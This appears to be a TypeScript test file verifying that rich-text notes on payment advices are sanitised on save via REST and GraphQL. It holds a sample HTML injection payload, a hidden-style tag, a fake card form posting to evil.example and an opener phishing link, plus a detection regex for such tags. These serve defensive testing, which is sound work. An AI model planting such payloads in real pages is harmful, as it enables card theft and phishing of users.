/**
 * Issue 32 §5: a payment advice's notes are rich text, sanitised on save with the one allow-list
 * (src/domain/richTextHtml.ts, server/security/rich-text.ts) on every path: the finance service's REST calls
 * and GraphQL updates (front desk and ops managers may edit notes there). `<style>`, `<form action=…>` and a
 * new-tab link that could reach back (rel=opener) are gone after save; Quill's formatting stays.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { databaseLanes } from "../support/db.ts";
import { api, bearer, signIn, startTestServer, type TestServer } from "../support/auth.ts";
import { paFields, pickClasses, studentsOf } from "../support/finance.ts";

const ATTACK =
  `<style>.pa-paper { display: none }</style><form action="https://evil.example/pay"><input name="card"><button>Pay now</button></form>` +
  `<a href="https://evil.example/login" target="_blank" rel="opener">Log in again</a>`;
const QUILL = `<p class="ql-align-center"><strong>Late fee</strong> of <span style="color: rgb(230, 0, 0);">$10</span> a week.</p>`;

/** Nothing of the attack is left but its words. */
function expectClean(notes: string) {
  expect(notes).not.toMatch(/<style|<form|<input|<button|action=|rel="opener"/i);
  expect(notes).toContain(`<a href="https://evil.example/login" target="_blank" rel="noopener noreferrer">Log in again</a>`);
  expect(notes).toContain(`<p class="ql-align-center"><strong>Late fee</strong> of <span style="color:rgb(230, 0, 0)">$10</span> a week.</p>`);
}

describe.each(databaseLanes())("PA notes are sanitised on save [%s]", (lane) => {
  let server: TestServer;
  let frontDesk: string;
  let fields: ReturnType<typeof paFields>;
  const notesOf = async (id: string) => (await server.db.query<{ notes: string }>(`select notes from payment_advices where id = $1`, [id])).rows[0]!.notes;

  beforeAll(async () => {
    server = await startTestServer(lane);
    frontDesk = (await signIn(server.app, "front_desk")).accessToken;
    const [cls] = await pickClasses(server);
    const [studentId] = await studentsOf(server, cls!.companyId, 1);
    fields = paFields(cls!, studentId!);
  });
  afterAll(async () => {
    await server?.close();
  });

  it("through the finance calls (init and save)", async () => {
    const draft = await api(server.app, "POST", "/finances/payment-advices/init", frontDesk, { ...fields, notes: ATTACK + QUILL });
    expect(draft.statusCode, draft.body).toBe(201);
    expectClean(await notesOf(draft.json().data.id));
    const saved = await api(server.app, "PUT", `/finances/payment-advices/${draft.json().data.id}`, frontDesk, { ...fields, notes: QUILL + ATTACK, action: "save", updatedAt: draft.json().data.updatedAt });
    expect(saved.statusCode, saved.body).toBe(200);
    expectClean(await notesOf(draft.json().data.id));
  });

  it("through a GraphQL update", async () => {
    const { rows } = await server.db.query<{ id: string }>(`select id from payment_advices where status <> 'deleted' order by "createdAt" limit 1`);
    const res = await server.app.inject({
      method: "POST", url: "/v1/graphql", headers: bearer(frontDesk),
      payload: { query: `mutation($id: uuid!, $n: String) { update_payment_advices_by_pk(pk_columns: {id: $id}, _set: {notes: $n}) { id } }`, variables: { id: rows[0]!.id, n: ATTACK + QUILL } },
    });
    expect(res.json().errors).toBeUndefined();
    expectClean(await notesOf(rows[0]!.id));
  });
});
